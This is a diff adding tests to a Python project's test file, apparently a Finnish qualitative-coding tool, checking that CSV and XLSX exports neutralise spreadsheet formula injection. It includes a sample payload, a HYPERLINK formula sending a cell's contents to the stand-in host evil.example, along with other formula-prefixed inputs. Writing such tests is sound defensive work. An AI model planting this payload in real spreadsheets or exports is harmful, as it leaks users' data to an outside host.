@@ -69,3 +69,53 @@ def test_report_export_never_overwrites(cli, coded, tmp_path):
     result = cli("export", coded, "csv", out)
     assert result.exit_code != 0 and "already exists" in result.output
     assert out.read_text(encoding="utf-8") == "mine"
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A2,"klikkaa")', "=1+1", "+358 40 123", "-1+2", "@SUM(A1:A9)"]
+
+
+def test_exports_neutralise_formulas_in_csv_and_xlsx(cli, study_path, tmp_path):
+    import io
+
+    from openpyxl import load_workbook
+
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow(["reduction", "subcategory", "original", "question"])
+    for i, formula in enumerate(FORMULAS):
+        writer.writerow([formula, f"luokka {i}", formula, "T1"])
+    writer.writerow(["tavallinen pelkistys", "=SUM(1,2)", "ihan tavallinen", "T1"])
+    source = tmp_path / "evil.csv"
+    source.write_text(buffer.getvalue(), encoding="utf-8")
+    assert cli("reductions", "import", study_path, source).exit_code == 0
+
+    out_csv, out_xlsx = tmp_path / "units.csv", tmp_path / "units.xlsx"
+    assert cli("export", study_path, "csv", out_csv).exit_code == 0
+    assert cli("export", study_path, "xlsx", out_xlsx).exit_code == 0
+    rows = list(csv.DictReader(out_csv.open(encoding="utf-8", newline="")))
+    assert [r["reduction"] for r in rows] == ["'" + f for f in FORMULAS] + ["tavallinen pelkistys"]
+    assert [r["original"] for r in rows] == ["'" + f for f in FORMULAS] + ["ihan tavallinen"]
+    assert rows[-1]["sub"] == "'=SUM(1,2)"
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    assert not any(v.startswith(dangerous) for r in rows for v in r.values())
+
+    sheet = load_workbook(out_xlsx).active
+    cells = [c for row in sheet.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f" or str(c.value or "").startswith(dangerous)]
+    values = {c.value for c in cells}
+    assert {"'" + f for f in FORMULAS} <= values and "'=SUM(1,2)" in values
+
+
+def test_tab_and_carriage_return_are_neutralised_too(tmp_path):
+    from openpyxl import load_workbook
+
+    from koodari.reports import UNIT_COLUMNS, write_units
+
+    row = dict.fromkeys(UNIT_COLUMNS, "")
+    row.update(reduction="\t=1+1", original="\r=2+2", sub="ok", coder="anna", model_version=3)
+    write_units([row], tmp_path / "u.csv", "csv")
+    written = next(csv.DictReader((tmp_path / "u.csv").open(encoding="utf-8", newline="")))
+    assert written["reduction"] == "'\t=1+1" and written["original"] == "'\r=2+2" and written["sub"] == "ok"
+    write_units([row], tmp_path / "u.xlsx", "xlsx")
+    cells = list(load_workbook(tmp_path / "u.xlsx").active.iter_rows(min_row=2, values_only=True))[0]
+    assert "'\t=1+1" in cells and "'\r=2+2" in cells and 3 in cells  # numbers stay numbers
